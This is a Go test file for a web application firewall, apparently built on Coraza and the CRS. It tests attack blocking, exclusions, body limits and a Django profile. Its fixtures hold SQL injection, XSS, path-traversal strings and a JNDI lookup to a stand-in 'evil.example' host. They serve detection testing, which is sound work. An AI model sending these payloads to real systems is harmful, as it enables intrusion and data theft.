package detect

import (
	"bytes"
	"crypto/rand"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3/types"

	"github.com/parapet-waf/parapet/internal/config"
	"github.com/parapet-waf/parapet/internal/decision"
)

// stageFromYAML loads a config (over the defaults) and builds the stage.
func stageFromYAML(t testing.TB, yaml string) *Stage {
	t.Helper()
	s, err := buildFromYAML(t, yaml)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func buildFromYAML(t testing.TB, yaml string) (*Stage, error) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "parapet.yaml")
	if err := os.WriteFile(path, []byte("upstream: http://127.0.0.1:1\n"+yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(path, nil)
	if err != nil {
		return nil, err
	}
	return New(cfg)
}

// stageWithoutFilter is stageFromYAML without the value filter
// (valuefilter.go): the engine runs every rule on every value.
func stageWithoutFilter(t testing.TB, yaml string) *Stage {
	t.Helper()
	path := filepath.Join(t.TempDir(), "parapet.yaml")
	if err := os.WriteFile(path, []byte("upstream: http://127.0.0.1:1\n"+yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	useRE2()
	memoizeOperators()
	s, err := buildWith(cfg, false)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func info() *decision.Info {
	return &decision.Info{ID: "test", ClientIP: netip.MustParseAddr("192.0.2.1")}
}

// browserRequest is a request with the headers a browser sends.
func browserRequest(method, target string, body io.Reader) *http.Request {
	r := httptest.NewRequest(method, "http://www.example.com"+target, body)
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/133.0")
	r.Header.Set("Accept", "text/html,application/xhtml+xml,*/*;q=0.8")
	r.Header.Set("Accept-Language", "en-US,en;q=0.5")
	return r
}

func form(target, body string) *http.Request {
	r := browserRequest("POST", target, strings.NewReader(body))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return r
}

func TestAttacksBlockedAndNamed(t *testing.T) {
	s := stageFromYAML(t, "")
	for _, c := range []struct {
		name, rule string
		r          *http.Request
	}{
		{"sqli in query", "detect-sqli", browserRequest("GET", "/?id=1%27%20OR%20%271%27=%271", nil)},
		{"xss in form", "detect-xss", form("/comments/", "c=%3Cscript%3Ealert(1)%3C/script%3E")},
		{"traversal", "detect-lfi", browserRequest("GET", "/?f=../../../etc/passwd", nil)},
	} {
		d := s.Check(c.r.Context(), c.r, info())
		if !d.Decided() || d.Status != 403 || d.RuleID != c.rule || len(d.Rules) == 0 {
			t.Errorf("%s: %+v", c.name, d)
		}
	}
}

// A urlencoded or JSON body is inspected and then reaches the upstream
// byte for byte, also when it came chunked (no Content-Length).
func TestBodyReplayedByteForByte(t *testing.T) {
	s := stageFromYAML(t, "")
	body := "name=O%27Brien&comment=" + strings.Repeat("caf%C3%A9+%F0%9F%8D%95+", 500)
	for _, chunked := range []bool{false, true} {
		r := form("/comments/", body)
		if chunked {
			r.ContentLength = -1
			r.Header.Del("Content-Length")
			r.Body = io.NopCloser(strings.NewReader(body)) // unknown length
		}
		if d := s.Check(r.Context(), r, info()); d.Decided() {
			t.Fatalf("chunked=%v: blocked: %+v", chunked, d)
		}
		got, err := io.ReadAll(r.Body)
		if err != nil || string(got) != body {
			t.Fatalf("chunked=%v: replayed %d bytes (%v), want %d identical", chunked, len(got), err, len(body))
		}
	}
	// An attack at the end of a long body is seen: the whole body is
	// inspected, and no payload hides past Coraza's argument limit: more
	// fields than Django accepts (1000) are refused (CRS 920380).
	attack := strings.Repeat("a=b&", 300) + "q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
	r := form("/comments/", attack)
	if d := s.Check(r.Context(), r, info()); d.RuleID != "detect-sqli" {
		t.Fatalf("attack at the end of a body: %+v", d)
	}
	r = form("/comments/", strings.Repeat("a=b&", 3000)+"q=1%27%20UNION%20SELECT%20password%20FROM%20users--")
	if d := s.Check(r.Context(), r, info()); !d.Decided() || !strings.Contains(strings.Join(d.Rules, ","), "920380") {
		t.Fatalf("attack after 3000 fields: %+v", d)
	}
}

func TestBodyOverLimitPolicies(t *testing.T) {
	s := stageFromYAML(t, "detection:\n  body_limit: 4KB\n  multipart_limit: 8KB\n")
	big := "comment=" + strings.Repeat("x", 8<<10)
	r := form("/comments/", big)
	if d := s.Check(r.Context(), r, info()); !d.Decided() || d.Status != 413 || d.RuleID != RuleBodyTooLarge {
		t.Fatalf("big form: %+v", d)
	}
	// Chunked: the limit is found by reading, and still refused.
	r = form("/comments/", big)
	r.ContentLength = -1
	r.Body = io.NopCloser(strings.NewReader(big))
	if d := s.Check(r.Context(), r, info()); d.Status != 413 {
		t.Fatalf("big chunked form: %+v", d)
	}

	// A multipart body over multipart_limit is spooled and inspected
	// (its file skipped), not passed uninspected; it arrives byte for
	// byte.
	data := make([]byte, 20<<10)
	rand.Read(data)
	var buf bytes.Buffer
	buf.WriteString("--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.bin\"\r\nContent-Type: application/octet-stream\r\n\r\n")
	buf.Write(data)
	buf.WriteString("\r\n--XyZ--\r\n")
	want := buf.Bytes()
	r = browserRequest("POST", "/upload/", bytes.NewReader(want))
	r.Header.Set("Content-Type", "multipart/form-data; boundary=XyZ")
	r.ContentLength = -1 // read past the limit, then replayed
	in := info()
	d := s.Check(r.Context(), r, in)
	if d.Decided() || d.RuleID != "" || len(in.Tags) != 0 {
		t.Fatalf("big upload: %+v tags %v", d, in.Tags)
	}
	got, _ := io.ReadAll(r.Body)
	if !bytes.Equal(got, want) {
		t.Fatalf("upload replayed %d bytes, sent %d", len(got), len(want))
	}

	// Multipart form fields (not files) are held to body_limit: they are
	// matched like form fields. The body is still replayed intact.
	fields := "--XyZ\r\nContent-Disposition: form-data; name=\"essay\"\r\n\r\n" + strings.Repeat("y", 6<<10) + "\r\n--XyZ--\r\n"
	r = browserRequest("POST", "/upload/", strings.NewReader(fields))
	r.Header.Set("Content-Type", "multipart/form-data; boundary=XyZ")
	if d := s.Check(r.Context(), r, info()); d.Status != 413 || !strings.Contains(d.Reason, "form fields") {
		t.Fatalf("6KB multipart text field: %+v", d)
	}

	// With pass for forms too, a big form goes through uninspected.
	s = stageFromYAML(t, "detection:\n  body_limit: 4KB\n  body_over_limit: pass\n")
	r = form("/comments/", big)
	if d := s.Check(r.Context(), r, info()); d.Decided() {
		t.Fatalf("pass policy: %+v", d)
	}
	if got, _ := io.ReadAll(r.Body); string(got) != big {
		t.Fatal("pass policy: body changed")
	}

	// With reject for multipart, the big upload is refused.
	s = stageFromYAML(t, "detection:\n  multipart_limit: 8KB\n  multipart_over_limit: reject\n")
	r = browserRequest("POST", "/upload/", bytes.NewReader(want))
	r.Header.Set("Content-Type", "multipart/form-data; boundary=XyZ")
	if d := s.Check(r.Context(), r, info()); !d.Decided() || d.Status != 413 || d.RuleID != RuleBodyTooLarge {
		t.Fatalf("big upload with multipart_over_limit reject: %+v", d)
	}
}

// inbound_threshold is the score that blocks: a request whose Host is an
// IP address scores 3 (CRS 920350, a warning), under the default 5 and at
// a threshold of 3. The paranoia level decides which rules score at all:
// a search that paranoia 1 lets through is blocked at 2.
func TestInboundThresholdAndParanoiaLevel(t *testing.T) {
	// An invalid Range (last byte before the first): CRS 920190, a
	// warning (3 points).
	badRange := func() *http.Request {
		r := browserRequest("GET", "/", nil)
		r.Header.Set("Range", "bytes=9-1")
		return r
	}
	// A search for a C++ type: CRS 942131 (paranoia 2) takes it for SQL.
	// (In a sentence, "std::vector<int> vs array", it is prose the
	// analyzer finds no SQL in, and passes at paranoia 2 too.)
	snippet := func() *http.Request {
		return browserRequest("GET", "/search/?q="+url.QueryEscape("std::vector<int>"), nil)
	}
	for _, c := range []struct {
		yaml  string
		r     func() *http.Request
		block bool
	}{
		{"", badRange, false},
		{"detection:\n  inbound_threshold: 3\n", badRange, true},
		{"detection:\n  inbound_threshold: 4\n", badRange, false},
		{"", snippet, false},
		{"detection:\n  paranoia_level: 2\n", snippet, true},
	} {
		s := stageFromYAML(t, c.yaml)
		r := c.r()
		if d := s.Check(r.Context(), r, info()); d.Decided() != c.block {
			t.Errorf("%q, %s %s (Host %s): blocked %v, want %v (%+v)", c.yaml, r.Method, r.URL, r.Host, d.Decided(), c.block, d)
		}
	}
}

func TestMonitorModeReportsWithoutBlocking(t *testing.T) {
	s := stageFromYAML(t, "detection:\n  mode: monitor\n")
	r := browserRequest("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", nil)
	d := s.Check(r.Context(), r, info())
	if d.Decided() || !d.Matched() || d.Action != decision.Block || d.RuleID != "detect-xss" {
		t.Fatalf("monitor: %+v", d)
	}
}

func TestSkipPathsOnlyForReads(t *testing.T) {
	s := stageFromYAML(t, "detection:\n  skip_paths: [/static/]\n")
	r := browserRequest("GET", "/static/app.js?v=1%27%20OR%20%271%27=%271", nil)
	if d := s.Check(r.Context(), r, info()); d.Decided() {
		t.Fatalf("GET under skip path: %+v", d)
	}
	r = form("/static/upload", "q=1%27%20OR%20%271%27=%271")
	if d := s.Check(r.Context(), r, info()); !d.Decided() {
		t.Fatal("POST under a skip path was not inspected")
	}
	// A path that only looks as if it were under the prefix (the app or a
	// server behind Parapet may resolve it elsewhere) is inspected.
	for _, target := range []string{
		"/static/../admin/?q=1%27%20OR%20%271%27=%271",
		"/static/%2e%2e/admin/?q=1%27%20OR%20%271%27=%271",
		"/static/./app.js?v=1%27%20OR%20%271%27=%271",
		"/static//app.js?v=1%27%20OR%20%271%27=%271",
		"/static/..%5cadmin?q=1%27%20OR%20%271%27=%271",
	} {
		r := browserRequest("GET", target, nil)
		if d := s.Check(r.Context(), r, info()); !d.Decided() {
			t.Errorf("GET %s skipped detection", target)
		}
	}
	// The prefix itself, with or without a file, is skipped.
	for _, target := range []string{"/static/?v=1%27%20OR%20%271%27=%271", "/static/css/site.css?v=1%27%20OR%20%271%27=%271"} {
		r := browserRequest("GET", target, nil)
		if d := s.Check(r.Context(), r, info()); d.Decided() {
			t.Errorf("GET %s: %+v", target, d)
		}
	}
}

// Exclusions in plain terms: a field, a rule on a path, a tag. Rule ids
// name CRS rules only; a tag names the class in both engines (the
// analyzer's rules carry the CRS's attack-* tags), and an exclusion
// without rules covers both.
func TestExclusions(t *testing.T) {
	sqli := "1%27%20OR%20%271%27=%271"
	s := stageFromYAML(t, `
detection:
  exclusions:
    - fields: ["ARGS:raw_sql"]
      paths: [/reports/]
    - rule_ids: ["941100-941400"]
      paths: [/cms/]
    - tags: [attack-xss]
      paths: [/wiki/]
    - tags: [attack-lfi]
      fields: [ARGS:template]
`)
	for _, c := range []struct {
		target string
		block  bool
	}{
		{"/reports/run?raw_sql=" + sqli, false},                      // field excluded on its path
		{"/reports/run?other=" + sqli, true},                         // other fields still inspected
		{"/elsewhere?raw_sql=" + sqli, true},                         // other paths still inspected
		{"/cms/page?html=%3Cscript%3Ealert(1)%3C/script%3E", true},   // CRS XSS rules off under /cms/, the analyzer's not
		{"/wiki/page?html=%3Cscript%3Ealert(1)%3C/script%3E", false}, // XSS off in both engines under /wiki/
		{"/wiki/page?q=" + sqli, true},                               // SQLi still on there
		{"/other?html=%3Cscript%3Ealert(1)%3C/script%3E", true},      // XSS on elsewhere
		{"POST /x template=..%2F..%2Fsecret.txt", false},             // LFI rules (both engines) do not look at template
		{"POST /x file=..%2F..%2Fsecret.txt", true},                  // but do at other fields
	} {
		var r *http.Request
		if path, body, ok := strings.Cut(strings.TrimPrefix(c.target, "POST "), " "); ok {
			r = form(path, body)
		} else {
			r = browserRequest("GET", c.target, nil)
		}
		if d := s.Check(r.Context(), r, info()); d.Decided() != c.block {
			t.Errorf("%s: blocked=%v, want %v (%s)", c.target, d.Decided(), c.block, d.Reason)
		}
	}

	// Without paths and fields: the rules named are off everywhere, the
	// rest stay on.
	xss := "%3Cscript%3Ealert(1)%3C/script%3E"
	for _, c := range []struct {
		yaml       string
		sqli, xssi bool // blocked
	}{
		{"detection:\n  exclusions:\n    - rule_ids: [\"941000-941999\"]\n    - tags: [parapet-analyze]\n", true, false},
		{"detection:\n  exclusions:\n    - tags: [attack-sqli]\n", false, true},
	} {
		s := stageFromYAML(t, c.yaml)
		for target, want := range map[string]bool{"/any/where?q=" + sqli: c.sqli, "/any/where?q=" + xss: c.xssi} {
			r := browserRequest("GET", target, nil)
			if d := s.Check(r.Context(), r, info()); d.Decided() != want {
				t.Errorf("%q, %s: blocked=%v, want %v (%s)", c.yaml, target, d.Decided(), want, d.Reason)
			}
		}
	}
}

// The Django profile: what Django generates or never interprets is not
// inspected, scoped to the field; the same values elsewhere still are.
func TestDjangoProfile(t *testing.T) {
	s := stageFromYAML(t, "")
	off := stageFromYAML(t, "detection:\n  django_profile: false\n")
	xss := "%3Cscript%3Ealert(1)%3C/script%3E"
	for _, c := range []struct {
		name string
		r    func() *http.Request
	}{
		{"password field", func() *http.Request { return form("/login/", "username=bob&password="+xss) }},
		{"changelist filters", func() *http.Request {
			return browserRequest("GET", "/admin/app/thing/?_changelist_filters=q%3D1%2527%2520OR%2520%25271%2527%253D%25271", nil)
		}},
		{"rich text in an admin form", func() *http.Request {
			return form("/admin/blog/post/add/", "title=x&body=%3Cp%3E%3Cimg+src%3D%22%2Fmedia%2Fa.jpg%22+alt%3D%22a%22%3E%3Ca+href%3D%22https%3A%2F%2Fexample.com%22+target%3D%22_blank%22%3Elink%3C%2Fa%3E%3C%2Fp%3E")
		}},
		{"csrftoken cookie", func() *http.Request {
			r := browserRequest("GET", "/", nil)
			r.Header.Set("Cookie", "csrftoken=1' OR '1'='1")
			return r
		}},
		{"sessionid cookie", func() *http.Request {
			r := browserRequest("GET", "/", nil)
			r.Header.Set("Cookie", "sessionid=1' OR '1'='1")
			return r
		}},
		{"messages cookie", func() *http.Request {
			r := browserRequest("GET", "/", nil)
			r.Header.Set("Cookie", `messages=[["__json_message",0,25,"<script>alert(1)</script>"]]`)
			return r
		}},
		{"X-CSRFToken header", func() *http.Request {
			r := form("/api/things/", "name=x")
			r.Header.Set("X-CSRFToken", "${jndi:ldap://evil.example/a}")
			return r
		}},
		{"_popup and _to_field in an admin popup", func() *http.Request {
			return browserRequest("GET", "/admin/auth/user/?_popup=1%27%20OR%20%271%27=%271&_to_field=1%27%20OR%20%271%27=%271", nil)
		}},
		{"next on the admin login", func() *http.Request {
			return browserRequest("GET", "/admin/login/?next=/admin/%3Fq%3D1%2527%2520OR%2520%25271%2527%253D%25271", nil)
		}},
	} {
		if d := s.Check(c.r().Context(), c.r(), info()); d.Decided() {
			t.Errorf("%s: blocked with the Django profile: %s", c.name, d.Reason)
		}
		if d := off.Check(c.r().Context(), c.r(), info()); !d.Decided() {
			t.Errorf("%s: not blocked without the profile, so the case proves nothing", c.name)
		}
	}
	// Scoped: the same payloads in other fields and paths are blocked.
	for name, r := range map[string]*http.Request{
		"xss in username":              form("/login/", "username="+xss+"&password=x"),
		"xss in a non-admin form":      form("/blog/post/add/", "body="+xss),
		"sqli in an admin form":        form("/admin/blog/post/add/", "title=1%27%20UNION%20SELECT%20password%20FROM%20auth_user--"),
		"sqli in the admin changelist": browserRequest("GET", "/admin/app/thing/?q=1%27%20OR%20%271%27=%271", nil),
	} {
		if d := s.Check(r.Context(), r, info()); !d.Decided() {
			t.Errorf("%s: not blocked", name)
		}
	}
}

// detection.admin_paths moves the admin exclusions to where the app
// mounts its admin site; /admin/ is then an ordinary path.
func TestDjangoProfileAdminPaths(t *testing.T) {
	richText := "title=x&body=%3Cp%3E%3Cimg+src%3D%22%2Fmedia%2Fa.jpg%22+alt%3D%22a%22%3E%3Ca+href%3D%22https%3A%2F%2Fexample.com%22+target%3D%22_blank%22%3Elink%3C%2Fa%3E%3C%2Fp%3E"
	filters := "?_changelist_filters=q%3D1%2527%2520OR%2520%25271%2527%253D%25271"
	moved := stageFromYAML(t, "detection:\n  admin_paths: [/staff.area/, /ops/]\n")
	byDefault := stageFromYAML(t, "")
	noLFI := stageFromYAML(t, "detection:\n  exclusions:\n    - tags: [attack-lfi]\n")
	for _, c := range []struct {
		stage *Stage
		r     *http.Request
		block bool
	}{
		{moved, form("/staff.area/blog/post/add/", richText), false},
		{moved, form("/ops/blog/post/1/change/", richText), false},
		{moved, browserRequest("GET", "/staff.area/app/thing/"+filters, nil), false},
		{moved, form("/admin/blog/post/add/", richText), true},
		{moved, browserRequest("GET", "/admin/app/thing/"+filters, nil), true},
		{moved, form("/staffXarea/blog/post/add/", richText), true}, // the dot is not a wildcard
		{moved, browserRequest("GET", "/ops/app/thing/"+filters, nil), false},
		{moved, browserRequest("GET", "/ops/login/?next=/ops/%3Fq%3D1%2527%2520OR%2520%25271%2527%253D%25271", nil), false},
		// Only paths plainly under the prefix: the app, or a server behind
		// Parapet, may resolve these out of the admin. (The CRS's path
		// traversal rules, which would block most of them anyway, are off
		// here, so that the profile alone decides.)
		{noLFI, browserRequest("GET", "/admin/login/../../search/?next=1%27%20OR%20%271%27=%271", nil), true},
		{noLFI, browserRequest("GET", "/admin/%2e%2e/search/"+filters, nil), true},
		{noLFI, browserRequest("GET", "/admin//app/thing/?_popup=1%27%20OR%20%271%27=%271", nil), true},
		{noLFI, browserRequest("GET", "/admin/app/thing/%5c..%5c..%5csearch/"+filters, nil), true},
		{noLFI, form("/admin/blog/post/../change/", richText), true},
		{noLFI, browserRequest("GET", "/admin/login/?next=1%27%20OR%20%271%27=%271", nil), false}, // the clean path still is the admin
		{byDefault, form("/staff.area/blog/post/add/", richText), true},
		{byDefault, form("/admin/blog/post/add/", richText), false},
	} {
		if d := c.stage.Check(c.r.Context(), c.r, info()); d.Decided() != c.block {
			t.Errorf("%s %s (moved %v): blocked %v, want %v (%s)", c.r.Method, c.r.URL, c.stage == moved, d.Decided(), c.block, d.Reason)
		}
	}
	for _, bad := range []string{"admin", "/admin", "/ad min/", "//admin/", "/", "/%61dmin/", "/%{tx.x}/"} {
		if _, err := buildFromYAML(t, "detection:\n  admin_paths: [\""+bad+"\"]\n"); err == nil || !strings.Contains(err.Error(), "detection.admin_paths[0]") {
			t.Errorf("admin_paths %q: %v", bad, err)
		}
	}
}

func TestBadDirectiveRefusedAtItsLine(t *testing.T) {
	// Directives that refer to CRS rules are fine; the bad one is found
	// after them, a continued line is reported where it starts.
	_, err := buildFromYAML(t, "detection:\n  directives: |\n    SecRuleRemoveById 942100\n    SecRuleUpdateTargetById 942200 \"!ARGS:x\"\n\n    SecRule ARGS \"@rx (\" \\\n      \"id:1,deny\"\n")
	if err == nil || !strings.Contains(err.Error(), "parapet.yaml:7: detection.directives: SecRule ARGS") {
		t.Fatalf("got %v", err)
	}
	_, err = buildFromYAML(t, "detection:\n  directives: |\n    SecRuleUpdateTargetById 999999 \"!ARGS:x\"\n")
	if err == nil || !strings.Contains(err.Error(), `parapet.yaml:4: detection.directives: SecRuleUpdateTargetById 999999 "!ARGS:x": `) || !strings.Contains(err.Error(), "not found") {
		t.Fatalf("got %v", err)
	}
	// A directive that works is accepted and takes effect.
	s := stageFromYAML(t, "detection:\n  directives: |\n    SecRule ARGS:secret \"@streq letmein\" \"id:1000001,phase:2,deny,status:403,msg:'custom',tag:'attack-custom'\"\n")
	r := browserRequest("GET", "/?secret=letmein", nil)
	if d := s.Check(r.Context(), r, info()); !d.Decided() || d.RuleID != "detect-custom" {
		t.Fatalf("custom rule: %+v", d)
	}
}

// The README's false-positive recipe: prose that quotes SQL around an
// apostrophe passes by default (the analyzer finds no break-out, so the
// CRS match on natural-language text does not count); a path to a system
// file after a word is still blocked (CRS 930120 with the analyzer's
// agreement), and the exclusion the README suggests lets it through on
// that path only.
func TestReadmeFalsePositiveRecipe(t *testing.T) {
	s := stageFromYAML(t, "detection:\n  exclusions:\n    - {rule_ids: [\"930120\"], fields: [ARGS:comment], paths: [/blog/]}\n")
	for _, c := range []struct {
		text     string
		elsewise bool // blocked off the excluded path
	}{{`O'Brien's "select" guide`, false}, {"/etc/hosts explained", true}} {
		body := "comment=" + url.QueryEscape(c.text)
		if r := form("/blog/post/", body); s.Check(r.Context(), r, info()).Decided() {
			t.Errorf("%q blocked on the excluded path", c.text)
		}
		if r := form("/shop/review/", body); s.Check(r.Context(), r, info()).Decided() != c.elsewise {
			t.Errorf("%q blocked elsewhere: %v, want %v: the README's example is stale", c.text, !c.elsewise, c.elsewise)
		}
	}
}

// detection.max_concurrent bounds the transactions evaluated at once, and
// a client still sending its body holds no slot: with one slot, a GET is
// inspected while another request's body trickles in.
func TestInspectionSlots(t *testing.T) {
	s := stageFromYAML(t, "detection:\n  max_concurrent: 1\n")
	var inside, most atomic.Int32
	s.observe = func(types.Transaction) {
		n := inside.Add(1)
		for {
			m := most.Load()
			if n <= m || most.CompareAndSwap(m, n) {
				break
			}
		}
		time.Sleep(5 * time.Millisecond)
		inside.Add(-1)
	}

	pr, pw := io.Pipe()
	slow := httptest.NewRequest("POST", "/comments/", pr)
	slow.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	slowDone := make(chan decision.Decision)
	go func() { slowDone <- s.Check(slow.Context(), slow, &decision.Info{ID: "slow"}) }()
	pw.Write([]byte("comment=hello")) // the rest has not arrived yet

	get := httptest.NewRequest("GET", "/?q=union+station", nil)
	done := make(chan decision.Decision)
	go func() { done <- s.Check(get.Context(), get, &decision.Info{ID: "get"}) }()
	select {
	case d := <-done:
		if d.Decided() {
			t.Fatalf("GET blocked: %+v", d)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("a GET waited for a slot held by a client still sending its body")
	}
	pw.Close()
	if d := <-slowDone; d.Decided() {
		t.Fatalf("slow POST blocked: %+v", d)
	}

	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r := httptest.NewRequest("GET", "/?q=x", nil)
			s.Check(r.Context(), r, &decision.Info{ID: "n"})
		}()
	}
	wg.Wait()
	if m := most.Load(); m != 1 {
		t.Fatalf("%d transactions evaluated at once, want at most 1", m)
	}
}

// TestLowerHeaderNameIsToLower checks that the header names written out
// in lowerHeaderName are their lower-case forms, and that other names
// are lower-cased.
func TestLowerHeaderNameIsToLower(t *testing.T) {
	for _, k := range []string{"Accept", "Accept-Encoding", "Accept-Language", "Cache-Control", "Connection",
		"Content-Length", "Content-Type", "Cookie", "Origin", "Referer", "Sec-Fetch-Dest", "Sec-Fetch-Mode",
		"Sec-Fetch-Site", "Upgrade-Insecure-Requests", "User-Agent", "X-Forwarded-For", "X-Requested-With",
		"X-Custom-Header", "DNT", "x-already-lower", ""} {
		if got, want := lowerHeaderName(k), strings.ToLower(k); got != want {
			t.Errorf("lowerHeaderName(%q) = %q, want %q", k, got, want)
		}
	}
}
